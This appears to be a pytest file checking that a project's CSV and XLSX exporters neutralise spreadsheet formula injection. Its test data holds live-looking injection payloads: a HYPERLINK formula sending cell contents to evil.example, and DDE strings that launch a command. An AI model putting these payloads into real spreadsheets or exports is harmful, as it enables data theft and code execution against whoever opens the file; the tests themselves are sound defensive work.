"""Spreadsheet cells that cannot attack their reader: the shared function and its writers."""

import csv
import io
import re
import zipfile
from datetime import date

import pytest

from vigil.core.exports import safe_cell, safe_row, write_csv, xlsx_workbook

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"),
    ("+44 121 000", "'+44 121 000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    # Harmless text, numbers and empties are left alone; a trigger later in the text is inert.
    ("Smith", "Smith"),
    ("a=b", "a=b"),
    ("'=already", "'=already"),
    ("", ""),
    (-2, -2),
    (3.5, 3.5),
    (None, None),
    (date(2026, 1, 1), date(2026, 1, 1)),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_cell_is_idempotent():
    assert safe_row(safe_row(["=1", "x", 2])) == ["'=1", "x", 2]


def test_write_csv_neutralises_every_cell():
    buf = io.StringIO()
    write_csv(buf, [["name", "note"], [EVIL, "-cmd|' /C calc'!A0"], ["Jane", 3]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["name", "note"], ["'" + EVIL, "'-cmd|' /C calc'!A0"], ["Jane", "3"]]


def xlsx_cells(data: bytes) -> tuple[list[str], int]:
    """The shared strings of an XLSX and how many formula cells its sheets hold."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        strings = re.findall(r"<t[^>]*>([^<]*)</t>", z.read("xl/sharedStrings.xml").decode())
        formulas = sum(z.read(n).decode().count("<f>") for n in z.namelist()
                       if n.startswith("xl/worksheets/"))
    return [s.replace("&amp;", "&").replace("&quot;", '"') for s in strings], formulas


def test_xlsx_workbook_writes_text_never_formulas():
    buf = io.BytesIO()
    wb = xlsx_workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("x")
    ws.write(0, 0, EVIL)
    ws.write("B1", "@cmd")
    ws.write_row(1, 0, ["+1", 5, "fine"])
    ws.write_column(2, 0, ["-1"])
    ws.write_string(3, 1, "=2")
    wb.close()
    strings, formulas = xlsx_cells(buf.getvalue())
    assert formulas == 0
    assert {"'" + EVIL, "'@cmd", "'+1", "fine", "'-1", "'=2"} <= set(strings)


def test_reject_report_neutralises_rejected_values(tmp_path):
    from vigil.ingest.rejects import RejectReport

    report = RejectReport()
    report.add("persons.csv", 7, "surname", "=cmd|'/C calc'!A0", "bad value")
    report.write_csv(tmp_path / "rejects.csv")
    rows = list(csv.reader((tmp_path / "rejects.csv").open()))
    assert rows[1] == ["persons.csv", "7", "surname", "'=cmd|'/C calc'!A0", "bad value"]


def test_audit_export_neutralises_cells(client, make_user):
    from vigil.core import audit

    client.force_login(make_user(role="admin"))
    audit.record("=evil()", audit.VIEW, "people.person", 1, context="@ctx")
    today = date.today().isoformat()
    response = client.get("/audit/export.csv", {"date_from": today, "date_to": today})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1:6] == ["'=evil()", "view", "people.person", "1", "'@ctx"]
